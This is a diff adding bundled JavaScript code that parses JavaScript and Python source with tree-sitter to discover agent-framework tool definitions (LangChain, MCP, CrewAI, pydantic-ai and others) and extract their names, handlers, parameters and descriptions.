+    return { framework: fw, name: name2, registration: call, handlerRef: execute, descNode: props.get("description"), inputPath: [], texts: this.textsOf(first, [execute, props.get("description")]) };
+  }
+  fromClasses(classes) {
+    const out2 = [];
+    const known = /* @__PURE__ */ new Map();
+    for (let pass = 0; pass < 2; pass++) {
+      for (const cls of classes) {
+        const className = cls.childForFieldName("name")?.text ?? "";
+        if (known.has(className)) continue;
+        const heritage = cls.namedChildren.find((c) => c?.type === "class_heritage");
+        const ext = heritage?.namedChildren.find((c) => c?.type === "extends_clause")?.childForFieldName("value") ?? (heritage?.namedChildren[0]?.type !== "extends_clause" ? heritage?.namedChildren[0] : null);
+        if (!ext) continue;
+        const base = ext.text.split(".").pop() ?? "";
+        let valueInput = null;
+        if (known.has(ext.text)) valueInput = known.get(ext.text);
+        else if (base === "StructuredTool" || base === "Tool") {
+          const ci = this.calleeImport(ext);
+          const lib = ci?.lib ?? null;
+          if (ci?.explicit ? lib === "langchain" : this.libs.has("langchain")) valueInput = base === "Tool";
+        }
+        if (valueInput === null) continue;
+        known.set(className, valueInput);
+        const body2 = cls.childForFieldName("body");
+        let name2 = null;
+        let descNode = null;
+        const texts = [];
+        for (const m of body2?.namedChildren ?? []) {
+          if (m?.type !== "public_field_definition" && m?.type !== "field_definition") continue;
+          const key = (m.childForFieldName("name") ?? m.childForFieldName("property"))?.text;
+          const value = m.childForFieldName("value");
+          if (key === "name") name2 = this.str(value);
+          else if (key === "description") descNode = value;
+          else if (value) texts.push(...this.textsOf(value, []));
+        }
+        for (const m of body2?.namedChildren ?? []) {
+          if (m?.type === "method_definition" && m.childForFieldName("name")?.text === "_call") {
+            out2.push({ framework: "langchain-js", name: name2 ?? className, registration: cls, handlerRef: m, descNode, inputPath: [], valueInput, texts });
+          }
+        }
+      }
+    }
+    return out2;
+  }
+  /** An object literal, or the object literal a `const` of this file holds. */
+  objectOf(n) {
+    const v = unwrapExpr(n);
+    if (v?.type === "identifier") {
+      const value = unwrapExpr(findDeclarator(this.root, v.text)?.childForFieldName("value"));
+      return value?.type === "object" ? value : v;
+    }
+    return v;
+  }
+  /** Is this an MCP server (`new McpServer(...)`, an MCP import, or a name that says so)? */
+  mcpEvidence(receiver) {
+    if (this.libs.has("mcp")) return true;
+    if (!receiver) return false;
+    if (/server|mcp/i.test(receiver.text)) return true;
+    return false;
+  }
+  looksLikeFunctionRef(n) {
+    const v = unwrapExpr(n);
+    return Boolean(v && (FUNCTION_TYPES.has(v.type) || v.type === "identifier" || v.type === "member_expression"));
+  }
+  /** Name the result is bound to: `const x = tool(...)`, `{ x: tool(...) }`, `x = tool(...)`. */
+  bindingName(call) {
+    let p = call.parent;
+    while (p && (p.type === "parenthesized_expression" || p.type === "as_expression" || p.type === "satisfies_expression" || p.type === "await_expression")) p = p.parent;
+    if (!p) return null;
+    if (p.type === "variable_declarator") return p.childForFieldName("name")?.text ?? null;
+    if (p.type === "pair") {
+      const k = p.childForFieldName("key");
+      return k ? keyText(k) : null;
+    }
+    if (p.type === "assignment_expression") return p.childForFieldName("left")?.text.split(".").pop() ?? null;
+    if (p.type === "public_field_definition") return p.childForFieldName("name")?.text ?? null;
+    return null;
+  }
+  /** String value of a literal, concatenation, or a `const` of this file. */
+  str(n, depth = 0) {
+    const v = unwrapExpr(n);
+    if (!v) return null;
+    const lit = stringLiteral(v);
+    if (lit !== null) return lit;
+    if (v.type === "binary_expression" && v.children.some((c) => c?.type === "+")) {
+      const l = this.str(v.childForFieldName("left"), depth);
+      const r2 = this.str(v.childForFieldName("right"), depth);
+      return l !== null && r2 !== null ? l + r2 : null;
+    }
+    if (v.type === "identifier" && depth < 2) {
+      const decl = findDeclarator(this.root, v.text);
+      const value = decl?.childForFieldName("value");
+      if (value) return this.str(value, depth + 1);
+    }
+    return null;
+  }
+  textsOf(node, exclude) {
+    const out2 = [];
+    if (!node) return out2;
+    walk2(node, (n) => {
+      if (exclude.some((e) => e && e.startIndex === n.startIndex && e.endIndex === n.endIndex)) return false;
+      if (n !== node && FUNCTION_TYPES.has(n.type) && n.type !== "method_definition") return false;
+      if (n.type === "string" || n.type === "template_string") {
+        out2.push(n);
+        return false;
+      }
+      return true;
+    });
+    return out2;
+  }
+  async build(c, extraTexts) {
+    const resolved = c.handlerRef ? await this.resolveFunction(c.handlerRef) : null;
+    if (!resolved) return null;
+    const { view, fn } = resolved;
+    let inputPath = c.inputPath ?? [];
+    const firstParam = firstParameter(fn);
+    if (c.mastra && firstParam) {
+      if (firstParam.type === "identifier") {
+        const body2 = fn.childForFieldName("body");
+        const usesContext = body2 ? body2.descendantsOfType("member_expression").some((m) => m?.childForFieldName("object")?.text === firstParam.text && m.childForFieldName("property")?.text === "context") : false;
+        inputPath = usesContext ? ["context"] : [];
+      } else if (firstParam.type === "object_pattern") {
+        inputPath = patternKeys(firstParam).includes("context") ? ["context"] : [];
+      }
+    }
+    const parameters = [];
+    if (!c.noInput && firstParam) {
+      if (firstParam.type === "identifier") {
+        parameters.push(c.valueInput && !inputPath.length ? { name: firstParam.text, shape: "value", range: rangeOfNode(view.file, firstParam) } : { name: firstParam.text, shape: "object", inputPath, range: rangeOfNode(view.file, firstParam) });
+      } else if (firstParam.type === "object_pattern") {
+        destructure(view.file, firstParam, inputPath, parameters);
+      }
+    }
+    let description;
+    const descText = this.str(c.descNode);
+    if (c.descNode && descText !== null) description = { text: descText, path: this.file.path, range: rangeOfNode(this.file, unwrapExpr(c.descNode) ?? c.descNode) };
+    const modelTexts = [];
+    for (const t of [...c.texts ?? [], ...extraTexts]) {
+      const v = stringLiteral(t);
+      if (v && v.trim()) modelTexts.push({ text: v, path: this.file.path, range: rangeOfNode(this.file, t) });
+    }
+    return {
+      framework: c.framework,
+      language: this.language,
+      name: c.framework === "mcp-typescript" && c.name === "CallTool" ? dispatchedNames(fn) ?? "CallTool" : c.name,
+      registration: { path: this.file.path, range: rangeOfNode(this.file, c.registration) },
+      handler: { path: view.file.path, startIndex: fn.startIndex, endIndex: fn.endIndex, range: rangeOfNode(view.file, fn) },
+      parameters,
+      ...description ? { description } : {},
+      ...modelTexts.length ? { modelTexts } : {}
+    };
+  }
+  async resolveFunction(ref) {
+    const v = unwrapExpr(ref);
+    if (!v) return null;
+    if (FUNCTION_TYPES.has(v.type)) return { view: this.view, fn: v };
+    const name2 = v.type === "identifier" || v.type === "shorthand_property_identifier" ? v.text : null;
+    if (name2) {
+      const local = findFunction(this.root, name2);
+      if (local) return { view: this.view, fn: local };
+      const imp = this.imports.get(name2);
+      if (imp && imp.imported !== "*") return findExported(this.project, this.file.path, imp.module, imp.imported, 0);
+      return null;
+    }
+    if (v.type === "member_expression") {
+      const obj = v.childForFieldName("object");
+      const prop = v.childForFieldName("property")?.text;
+      if (obj?.type === "identifier" && prop) {
+        const imp = this.imports.get(obj.text);
+        if (imp && imp.imported === "*") return findExported(this.project, this.file.path, imp.module, prop, 0);
+      }
+    }
+    return null;
+  }
+};
+function firstParameter(fn) {
+  const single = fn.childForFieldName("parameter");
+  if (single) return single;
+  const params = fn.childForFieldName("parameters");
+  let p = params?.namedChildren.find((c) => c && c.type !== "comment") ?? null;
+  if (!p) return null;
+  if (p.type === "required_parameter" || p.type === "optional_parameter") {
+    const pat = p.childForFieldName("pattern");
+    if (pat?.type === "this") return null;
+    p = pat;
+  }
+  if (p?.type === "assignment_pattern") p = p.childForFieldName("left");
+  return p ?? null;
+}
+function patternKeys(pattern) {
+  const keys = [];
+  for (const c of pattern.namedChildren) {
+    if (!c) continue;
+    if (c.type === "shorthand_property_identifier_pattern") keys.push(c.text);
+    else if (c.type === "object_assignment_pattern") keys.push(c.childForFieldName("left")?.text ?? "");
+    else if (c.type === "pair_pattern") keys.push(keyText(c.childForFieldName("key")));
+  }
+  return keys;
+}
+function destructure(file, pattern, path2, out2) {
+  const bind = (id, rest) => {
+    if (rest === null) out2.push({ name: id.text, shape: "destructured", range: rangeOfNode(file, id) });
+    else out2.push({ name: id.text, shape: "object", inputPath: rest, range: rangeOfNode(file, id) });
+  };
+  for (const c of pattern.namedChildren) {
+    if (!c) continue;
+    let key = null;
+    let value = null;
+    if (c.type === "shorthand_property_identifier_pattern") {
+      key = c.text;
+      value = c;
+    } else if (c.type === "object_assignment_pattern") {
+      value = c.childForFieldName("left");
+      key = value?.text ?? null;
+    } else if (c.type === "pair_pattern") {
+      const k = c.childForFieldName("key");
+      key = k ? keyText(k) : null;
+      value = c.childForFieldName("value");
+      if (value?.type === "assignment_pattern") value = value.childForFieldName("left");
+    } else if (c.type === "rest_pattern") {
+      const id = c.namedChildren.find((k) => k?.type === "identifier");
+      if (id && path2.length === 0) bind(id, []);
+      continue;
+    }
+    if (!key || !value) continue;
+    if (path2.length === 0) {
+      if (value.type === "object_pattern") destructure(file, value, [], out2);
+      else if (value.type === "identifier" || value.type === "shorthand_property_identifier_pattern") bind(value, null);
+      continue;
+    }
+    if (key !== path2[0]) continue;
+    const rest = path2.slice(1);
+    if (value.type === "object_pattern") destructure(file, value, rest, out2);
+    else if (value.type === "identifier" || value.type === "shorthand_property_identifier_pattern") bind(value, rest);
+  }
+}
+function findDeclarator(root, name2) {
+  let found = null;
+  walk2(root, (n) => {
+    if (found) return false;
+    if (n.type === "variable_declarator" && n.childForFieldName("name")?.type === "identifier" && n.childForFieldName("name")?.text === name2) {
+      found = n;
+      return false;
+    }
+    return !FUNCTION_TYPES.has(n.type) || n === root;
+  });
+  return found;
+}
+function findFunction(root, name2) {
+  let found = null;
+  walk2(root, (n) => {
+    if (found) return false;
+    if ((n.type === "function_declaration" || n.type === "generator_function_declaration") && n.childForFieldName("name")?.text === name2) {
+      found = n;
+      return false;
+    }
+    if (n.type === "variable_declarator" && n.childForFieldName("name")?.text === name2) {
+      const v = unwrapExpr(n.childForFieldName("value"));
+      if (v && FUNCTION_TYPES.has(v.type)) found = v;
+      return false;
+    }
+    return true;
+  });
+  return found;
+}
+var JS_EXTENSIONS = [".ts", ".tsx", ".mts", ".cts", ".js", ".jsx", ".mjs", ".cjs"];
+async function resolveJsModule(project, fromPath, spec) {
+  if (!spec.startsWith(".")) return null;
+  const base = joinPath(dirOf(fromPath), spec);
+  if (base === null) return null;
+  const paths = await pathSet(project);
+  const stem = base.replace(/\.(m|c)?jsx?$/, "");
+  const candidates = [base, ...JS_EXTENSIONS.map((e) => stem + e), ...JS_EXTENSIONS.map((e) => `${base}/index${e}`)];
+  for (const c of candidates) if (paths.has(c)) return c;
+  return null;
+}
+async function findExported(project, fromPath, spec, name2, depth) {
+  if (depth > 3) return null;
+  const target = await resolveJsModule(project, fromPath, spec);
+  if (!target) return null;
+  const view = await parsedModule(project, target);
+  if (!view) return null;
+  if (name2 === "default") {
+    for (const st of view.root.namedChildren) {
+      if (st?.type !== "export_statement" || !st.children.some((c) => c?.type === "default")) continue;
+      const decl = st.childForFieldName("declaration") ?? st.childForFieldName("value");
+      const v = unwrapExpr(decl);
+      if (v && FUNCTION_TYPES.has(v.type)) return { view, fn: v };
+      if (v?.type === "identifier") {
+        const fn2 = findFunction(view.root, v.text);
+        if (fn2) return { view, fn: fn2 };
+      }
+    }
+    return null;
+  }
+  const fn = findFunction(view.root, name2);
+  if (fn) return { view, fn };
+  const imports = analyseImports(view.root);
+  const imp = imports.get(name2);
+  if (imp && imp.imported !== "*") return findExported(project, target, imp.module, imp.imported, depth + 1);
+  for (const st of view.root.namedChildren) {
+    if (st?.type !== "export_statement") continue;
+    const src = st.childForFieldName("source");
+    if (!src) continue;
+    for (const s of st.descendantsOfType("export_specifier")) {
+      const alias = s?.childForFieldName("alias")?.text ?? s?.childForFieldName("name")?.text;
+      if (alias === name2) return findExported(project, target, stringLiteral(src) ?? "", s.childForFieldName("name").text, depth + 1);
+    }
+  }
+  return null;
+}
+function dispatchedNames(fn) {
+  const names = [];
+  const isNameExpr = (n) => Boolean(n && /(^|\.)(name|toolName|tool)$/.test(n.text));
+  walk2(fn, (n) => {
+    if (n.type === "switch_statement" && isNameExpr(unwrapExpr(n.childForFieldName("value")))) {
+      for (const c of n.descendantsOfType("switch_case")) {
+        const v = c?.childForFieldName("value");
+        const s = v ? stringLiteral(v) : null;
+        if (s !== null) names.push(s);
+      }
+    } else if (n.type === "binary_expression" && n.children.some((c) => c?.type === "===" || c?.type === "==")) {
+      const l = n.childForFieldName("left");
+      const r2 = n.childForFieldName("right");
+      if (l && r2) {
+        if (isNameExpr(l) && stringLiteral(r2) !== null) names.push(stringLiteral(r2));
+        else if (isNameExpr(r2) && stringLiteral(l) !== null) names.push(stringLiteral(l));
+      }
+    }
+    return true;
+  });
+  return names.length ? [...new Set(names)].join("|") : null;
+}
+async function discoverJavaScript(file, language, root, project) {
+  if (!/tool|Tool/.test(file.text)) return [];
+  return new JsDiscovery(file, language, { file, root }, project).run();
+}
+
+// src/tools/python.ts
+function libOf2(module2, level) {
+  if (level > 0) return null;
+  const top = module2.split(".")[0];
+  if (top.startsWith("langchain") || top === "langgraph") return "langchain";
+  if (top === "crewai" || top === "crewai_tools") return "crewai";
+  if (top === "smolagents") return "smolagents";
+  if (top === "agents") return "openai-agents";
+  if (top === "mcp" || top === "fastmcp") return "mcp";
+  if (top === "pydantic_ai") return "pydantic-ai";
+  if (top === "llama_index") return "llamaindex";
+  if (top === "async_toolformer") return "async-toolformer";
+  return null;
+}
+var INJECTED_TYPE = /\b(RunContext|RunContextWrapper|ToolContext|Context|CallbackManagerForToolRun|AsyncCallbackManagerForToolRun|RunnableConfig|InjectedToolArg|InjectedState|InjectedStore|InjectedToolCallId|ToolRuntime)\b/;
+function analyse(view) {
+  const imports = /* @__PURE__ */ new Map();
+  const libs = /* @__PURE__ */ new Set();
+  walk2(view.root, (n) => {
+    if (n.type === "import_statement") {
+      for (const name2 of n.childrenForFieldName("name")) {
+        if (!name2) continue;
+        if (name2.type === "aliased_import") {
+          const mod = name2.childForFieldName("name")?.text ?? "";
+          const alias = name2.childForFieldName("alias")?.text;
+          if (alias) imports.set(alias, { module: mod, name: null, level: 0 });
+          const lib = libOf2(mod, 0);
+          if (lib) libs.add(lib);
+        } else {
+          const mod = name2.text;
+          imports.set(mod.split(".")[0], { module: mod.split(".")[0], name: null, level: 0 });
+          const lib = libOf2(mod, 0);
+          if (lib) libs.add(lib);
+        }
+      }
+      return false;
+    }
+    if (n.type === "import_from_statement") {
+      const modNode = n.childForFieldName("module_name");
+      let module2 = "";
+      let level = 0;
+      if (modNode?.type === "relative_import") {
+        for (const c of modNode.namedChildren) {
+          if (c?.type === "import_prefix") level = c.text.length;
+          else if (c?.type === "dotted_name") module2 = c.text;
+        }
+      } else if (modNode) module2 = modNode.text;
+      const lib = libOf2(module2, level);
+      if (lib) libs.add(lib);
+      for (const name2 of n.childrenForFieldName("name")) {
+        if (!name2) continue;
+        if (name2.type === "aliased_import") {
+          const orig = name2.childForFieldName("name")?.text ?? "";
+          const alias = name2.childForFieldName("alias")?.text ?? orig;
+          imports.set(alias, { module: module2, name: orig, level });
+        } else imports.set(name2.text, { module: module2, name: name2.text, level });
+      }
+      return false;
+    }
+    return n.type === "module" || n.type === "if_statement" || n.type === "try_statement" || n.type === "block" || n.type === "else_clause" || n.type === "except_clause" || n.type === "elif_clause" || n.type === "function_definition" || n.type === "decorated_definition" || n.type === "class_definition";
+  });
+  return { view, imports, libs };
+}
+function stringValue(node, mod, depth = 0) {
+  if (!node) return null;
+  if (node.type === "string") {
+    let start2 = node.startIndex;
+    let end = node.endIndex;
+    let raw = false;
+    for (const c of node.children) {
+      if (!c) continue;
+      if (c.type === "string_start") {
+        start2 = c.endIndex;
+        raw = /r/i.test(c.text.replace(/["']/g, ""));
+      } else if (c.type === "string_end") end = c.startIndex;
+    }
+    const body2 = node.text.slice(start2 - node.startIndex, end - node.startIndex);
+    return { text: raw ? body2 : decodeEscapes(body2), node };
+  }
+  if (node.type === "concatenated_string") {
+    const parts2 = node.namedChildren.map((c) => stringValue(c, mod, depth)?.text ?? "");
+    return { text: parts2.join(""), node };
+  }
+  if (node.type === "parenthesized_expression") return stringValue(node.namedChildren[0], mod, depth);
+  if (node.type === "identifier" && mod && depth < 2) {
+    const value = moduleAssignment(mod.view.root, node.text);
+    if (value && (value.type === "string" || value.type === "concatenated_string")) return stringValue(value, mod, depth + 1);
+  }
+  return null;
+}
+function moduleAssignment(root, name2, anywhere = false) {
+  let found = null;
+  walk2(root, (n) => {
+    if (found) return false;
+    if (n.type === "assignment") {
+      const left = n.childForFieldName("left");
+      if (left?.type === "identifier" && left.text === name2) {
+        found = n.childForFieldName("right");
+        return false;
+      }
+    }
+    if (!anywhere && (n.type === "function_definition" || n.type === "class_definition")) return false;
+    return true;
+  });
+  return found;
+}
+function docstringOf(fn) {
+  if (fn.type !== "function_definition" && fn.type !== "class_definition") return null;
+  const body2 = fn.childForFieldName("body");
+  const first = body2?.namedChildren.find((c) => c && c.type !== "comment");
+  if (first?.type === "expression_statement") {
+    const s = first.namedChildren[0];
+    if (s && (s.type === "string" || s.type === "concatenated_string")) return s;
+  }
+  return null;
+}
+function callArgs(call) {
+  const positional = [];
+  const kw = /* @__PURE__ */ new Map();
+  const args2 = call?.type === "call" ? call.childForFieldName("arguments") : null;
+  for (const a of args2?.namedChildren ?? []) {
+    if (!a || a.type === "comment") continue;
+    if (a.type === "keyword_argument") {
+      const k = a.childForFieldName("name")?.text;
+      const v = a.childForFieldName("value");
+      if (k && v) kw.set(k, v);
+    } else positional.push(a);
+  }
+  return { positional, kw };
+}
+function functionName(fn) {
+  return fn.childForFieldName("name")?.text ?? "<lambda>";
+}
+function parametersOf(file, fn, options = {}) {
+  const params = fn.childForFieldName("parameters");
+  const out2 = [];
+  let index = 0;
+  let first = true;
+  let skipped = 0;
+  for (const p of params?.namedChildren ?? []) {
+    if (!p || p.type === "keyword_separator" || p.type === "positional_separator" || p.type === "comment") continue;
+    let nameNode = null;
+    let typeText = "";
+    let splat = null;
+    const inner = (n) => {
+      if (n.type === "identifier") nameNode = n;
+      else if (n.type === "list_splat_pattern" || n.type === "dictionary_splat_pattern") {
+        splat = n.type === "list_splat_pattern" ? "list" : "dict";
+        nameNode = n.namedChildren.find((c) => c?.type === "identifier") ?? null;
+      }
+    };
+    if (p.type === "identifier" || p.type === "list_splat_pattern" || p.type === "dictionary_splat_pattern") inner(p);
+    else if (p.type === "typed_parameter") {
+      const c = p.namedChildren[0];
+      if (c) inner(c);
+      typeText = p.childForFieldName("type")?.text ?? "";
+    } else if (p.type === "default_parameter" || p.type === "typed_default_parameter") {
+      const c = p.childForFieldName("name");
+      if (c) inner(c);
+      typeText = p.childForFieldName("type")?.text ?? "";
+    }
+    const node = nameNode;
+    if (!node) continue;
+    const name2 = node.text;
+    const wasFirst = first;
+    first = false;
+    if (wasFirst && (name2 === "self" || name2 === "cls") && !splat) continue;
+    if (options.skipLeading && skipped < options.skipLeading && !splat) {
+      skipped++;
+      continue;
+    }
+    const i2 = index++;
+    if (options.objectAt !== void 0) {
+      if (i2 === options.objectAt) out2.push({ name: name2, shape: "object", inputPath: [], range: rangeOfNode(file, node) });
+      continue;
+    }
+    if (typeText && INJECTED_TYPE.test(typeText)) continue;
+    if (options.skipNames?.includes(name2)) continue;
+    out2.push(
+      splat === "dict" ? { name: name2, shape: "object", inputPath: [], range: rangeOfNode(file, node) } : { name: name2, shape: "value", range: rangeOfNode(file, node) }
+    );
+  }
+  return out2;
+}
+function stringsUnder(node, exclude = []) {
+  const out2 = [];
+  if (!node) return out2;
+  walk2(node, (n) => {
+    if (exclude.some((e) => e && e.startIndex === n.startIndex && e.endIndex === n.endIndex && e.type === n.type)) return false;
+    if (n.type === "string" || n.type === "concatenated_string") {
+      out2.push(n);
+      return false;
+    }
+    return true;
+  });
+  return out2;
+}
+function kindOfConstructor(callee) {
+  const last = callee.split(".").pop() ?? "";
+  if (last === "FastMCP") return "fastmcp";
+  if (last === "Server" || last === "LowLevelServer") return "lowlevel";
+  if (last === "Agent") return "pydantic-ai";
+  if (last === "ToolRegistry") return "registry";
+  return null;
+}
+var PythonDiscovery = class {
+  constructor(file, view, project) {
+    this.file = file;
+    this.project = project;
+    this.mod = analyse(view);
+  }
+  file;
+  project;
+  mod;
+  async run() {
+    const candidates = [];
+    const root = this.mod.view.root;
+    const decorated = [];
+    const calls = [];
+    const classes = [];
+    walk2(root, (n) => {
+      if (n.type === "decorated_definition") decorated.push(n);
+      else if (n.type === "call") calls.push(n);
+      else if (n.type === "class_definition") classes.push(n);
+      return true;
+    });
+    const listTools = [];
+    for (const d of decorated) {
+      const def = d.childForFieldName("definition");
+      if (def?.type !== "function_definition") continue;
+      for (const dec of d.namedChildren) {
+        if (dec?.type !== "decorator") continue;
+        const c = await this.fromDecorator(dec, def);
+        if (c === "list_tools") listTools.push(def);
+        else if (c) candidates.push(c);
+      }
+    }
+    for (const call of calls) {
+      const c = this.fromCall(call);
+      if (c) candidates.push(c);
+    }
+    candidates.push(...this.fromClasses(classes));
+    const lowLevelTexts = listTools.flatMap((fn) => stringsUnder(fn.childForFieldName("body")));
+    const out2 = [];
+    for (const c of candidates) {
+      const h = await this.build(c, lowLevelTexts);
+      if (h) out2.push(h);
+    }
+    return out2;
+  }
+  libOfBinding(name2) {
+    const imp = this.mod.imports.get(name2);
+    if (!imp) return { lib: null, imported: name2 };
+    if (imp.name === null) return { lib: libOf2(imp.module, imp.level), imported: name2, imp };
+    return { lib: libOf2(imp.module, imp.level), imported: imp.name, imp };
+  }
+  definesLocally(name2) {
+    return this.mod.view.root.namedChildren.some(
+      (n) => n?.type === "function_definition" && functionName(n) === name2 || n?.type === "decorated_definition" && n.childForFieldName("definition")?.childForFieldName("name")?.text === name2
+    );
+  }
+  async fromDecorator(dec, fn) {
+    const expr = dec.namedChildren.find((c) => c && c.type !== "comment");
+    if (!expr) return null;
+    const isCall = expr.type === "call";
+    const callee = isCall ? expr.childForFieldName("function") : expr;
+    if (!callee) return null;
+    const { positional, kw } = callArgs(isCall ? expr : null);
+    const base = { registration: dec, handlerRef: fn, useDocstring: true };
+    const firstString = stringValue(positional[0], this.mod);
+    const kwString = (k) => stringValue(kw.get(k), this.mod);
+    const decoratorTexts = (exclude) => [...stringsUnder(isCall ? expr.childForFieldName("arguments") : null, exclude)];
+    let imported = null;
+    let lib = null;
+    let explicitModule = false;
+    if (callee.type === "identifier") {
+      const b = this.libOfBinding(callee.text);
+      if (b.imp?.name === null) return null;
+      imported = b.imported;
+      lib = b.lib;
+      explicitModule = Boolean(b.imp);
+      if (b.imp && !lib) return null;
+      if (!b.imp && this.definesLocally(callee.text)) return null;
+    } else if (callee.type === "attribute") {
+      const obj = callee.childForFieldName("object");
+      const attr = callee.childForFieldName("attribute")?.text ?? "";
+      const head = obj ? obj.type === "identifier" ? obj : null : null;
+      const headImport = head ? this.mod.imports.get(head.text) : void 0;
+      if (headImport && headImport.name === null && libOf2(headImport.module, headImport.level)) {
+        imported = attr;
+        lib = libOf2(headImport.module, headImport.level);
+        explicitModule = true;
+      } else {
+        return this.fromServerDecorator(dec, expr, isCall, callee, obj, attr, fn);
+      }
+    }
+    if (!imported) return null;
+    if (imported === "tool") {
+      let fw = null;
+      if (lib === "langchain") fw = "langchain";
+      else if (lib === "crewai") fw = "crewai";
+      else if (lib === "smolagents") fw = "smolagents";
+      else if (!explicitModule) fw = this.mod.libs.has("crewai") ? "crewai" : this.mod.libs.has("smolagents") ? "smolagents" : "langchain";
+      if (!fw) return null;
+      const desc = kwString("description");
+      return { ...base, framework: fw, name: firstString?.text, description: desc, params: fw === "langchain" ? { skipNames: ["run_manager", "callbacks"] } : {}, texts: decoratorTexts([desc?.node]) };
+    }
+    if (imported === "function_tool") {
+      if (explicitModule && lib !== "openai-agents") return null;
+      const desc = kwString("description_override");
+      return { ...base, framework: "openai-agents", name: kwString("name_override")?.text, description: desc, texts: decoratorTexts([desc?.node]) };
+    }
+    if (imported === "Tool" && isCall) {
+      if (explicitModule && lib !== "async-toolformer") return null;
+      if (!explicitModule && (this.mod.libs.has("smolagents") || this.mod.libs.has("langchain"))) return null;
+      const desc = kwString("description") ?? firstString;
+      if (!desc && !explicitModule) return null;
+      return { ...base, framework: "async-toolformer", name: kwString("name")?.text, description: desc, useDocstring: false, texts: decoratorTexts([desc?.node]) };
+    }
+    return null;
+  }
+  async fromServerDecorator(dec, expr, isCall, callee, obj, attr, fn) {
+    if (!["tool", "tool_plain", "call_tool", "list_tools"].includes(attr) || !obj) return null;
+    const objName = obj.type === "identifier" ? obj.text : obj.type === "attribute" ? obj.childForFieldName("attribute")?.text ?? "" : "";
+    if (!objName) return null;
+    const kind = obj.type === "identifier" ? await this.serverKind(objName) : null;
+    const libs = this.mod.libs;
+    const { positional, kw } = callArgs(isCall ? expr : null);
+    const kwString = (k) => stringValue(kw.get(k), this.mod);
+    const argsNode = isCall ? expr.childForFieldName("arguments") : null;
+    const base = { registration: dec, handlerRef: fn, useDocstring: true };
+    if (attr === "list_tools") return kind === "lowlevel" || kind === null && libs.has("mcp") ? "list_tools" : null;
+    if (attr === "call_tool") {
+      if (kind === "lowlevel" || kind === null && libs.has("mcp")) {
+        return { ...base, framework: "mcp-python-lowlevel", name: dispatchedNames2(fn) ?? functionName(fn), useDocstring: false, params: { objectAt: 1 } };
+      }
+      return null;
+    }
+    if (attr === "tool_plain") {
+      if (kind !== null && kind !== "pydantic-ai") return null;
+      const desc2 = kwString("description");
+      return { ...base, framework: "pydantic-ai", name: kwString("name")?.text, description: desc2, texts: stringsUnder(argsNode, [desc2?.node]) };
+    }
+    let fw = null;
+    if (kind === "fastmcp") fw = "mcp-python";
+    else if (kind === "pydantic-ai") fw = "pydantic-ai";
+    else if (kind === "registry") fw = "async-toolformer";
+    else if (kind === "lowlevel") fw = null;
+    else {
+      const firstParam = fn.childForFieldName("parameters")?.namedChildren[0];
+      const firstType = firstParam?.childForFieldName("type")?.text ?? "";
+      if (/\bRunContext\b/.test(firstType)) fw = "pydantic-ai";
+      else if (libs.has("mcp")) fw = "mcp-python";
+      else if (libs.has("pydantic-ai")) fw = "pydantic-ai";
+      else if (libs.has("async-toolformer") || kw.has("calls_per_min") || kw.has("timeout_s")) fw = "async-toolformer";
+      else if (/mcp/i.test(objName)) fw = "mcp-python";
+    }
+    if (!fw) return null;
+    if (fw === "async-toolformer") {
+      const desc2 = kwString("description") ?? stringValue(positional[0], this.mod);
+      return { ...base, framework: fw, name: kwString("name")?.text, description: desc2, useDocstring: false, texts: stringsUnder(argsNode, [desc2?.node]) };
+    }
+    if (fw === "pydantic-ai") {
+      const desc2 = kwString("description");
+      return { ...base, framework: fw, name: kwString("name")?.text, description: desc2, params: { skipLeading: 1 }, texts: stringsUnder(argsNode, [desc2?.node]) };
+    }
+    const desc = kwString("description");
+    return { ...base, framework: fw, name: kwString("name")?.text ?? stringValue(positional[0], this.mod)?.text, description: desc, texts: stringsUnder(argsNode, [desc?.node]) };
+  }
+  /** What `name` was created from: `name = FastMCP(...)` here, or in the repository module it is imported from. */
+  async serverKind(name2) {
+    const value = moduleAssignment(this.mod.view.root, name2, true);
+    if (value?.type === "call") {
+      const callee = value.childForFieldName("function")?.text ?? "";
+      const imp2 = this.mod.imports.get(callee.split(".")[0]);
+      const full = imp2?.name ? `${imp2.module}.${imp2.name}` : callee;
+      return kindOfConstructor(full);
+    }
+    const imp = this.mod.imports.get(name2);
+    if (imp?.name) {
+      const target = await resolvePyModule(this.project, this.file.path, imp.module, imp.level);
+      if (target) {
+        const other = await parsedModule(this.project, target);
+        if (other) {
+          const v = moduleAssignment(other.root, imp.name, true);
+          if (v?.type === "call") return kindOfConstructor(v.childForFieldName("function")?.text ?? "");
+        }
+      }
+    }
+    return null;
+  }
+  fromCall(call) {
+    const callee = call.childForFieldName("function");
+    if (!callee) return null;
+    const { positional, kw } = callArgs(call);
+    const argsNode = call.childForFieldName("arguments");
+    if (callee.type === "attribute") {
+      const obj = callee.childForFieldName("object");
+      const attr = callee.childForFieldName("attribute")?.text;
+      const objName = obj?.type === "identifier" ? obj.text : obj?.childForFieldName("attribute")?.text ?? "";
+      const objImport = obj?.type === "identifier" ? this.libOfBinding(obj.text) : null;
+      if (attr === "from_function" && (objName === "StructuredTool" || objName === "Tool")) {
+        if (objImport?.imp && objImport.lib !== "langchain") return null;
+        const ref = kw.get("func") ?? kw.get("coroutine") ?? positional[0];
+        if (!ref) return null;
+        const desc = stringValue(kw.get("description"), this.mod);
+        return { framework: "langchain", name: stringValue(kw.get("name"), this.mod)?.text, registration: call, handlerRef: ref, description: desc, useDocstring: true, texts: stringsUnder(argsNode, [desc?.node, ref]) };
+      }
+      if (attr === "from_defaults" && objName === "FunctionTool") {
+        if (objImport?.imp && objImport.lib !== "llamaindex") return null;
+        const ref = kw.get("fn") ?? kw.get("async_fn") ?? positional[0];
+        if (!ref) return null;
+        const desc = stringValue(kw.get("description"), this.mod);
+        return { framework: "llamaindex", name: stringValue(kw.get("name"), this.mod)?.text, registration: call, handlerRef: ref, description: desc, useDocstring: true, texts: stringsUnder(argsNode, [desc?.node, ref]) };
+      }
+      return null;
+    }
+    if (callee.type === "identifier") {
+      const b = this.libOfBinding(callee.text);
+      if (b.imported !== "Tool" && b.imported !== "StructuredTool") return null;
+      if (b.imp && b.lib !== "langchain") return null;
+      if (!b.imp && this.mod.libs.size && !this.mod.libs.has("langchain")) return null;
+      let ref = kw.get("func") ?? kw.get("coroutine");
+      let nameNode = kw.get("name");
+      let descNode = kw.get("description");
+      if (!ref && positional.length >= 2 && stringValue(positional[0], this.mod)) {
+        nameNode = positional[0];
+        ref = positional[1];
+        descNode ??= positional[2];
+      }
+      if (!ref || ref.type === "none") return null;
+      const desc = stringValue(descNode, this.mod);
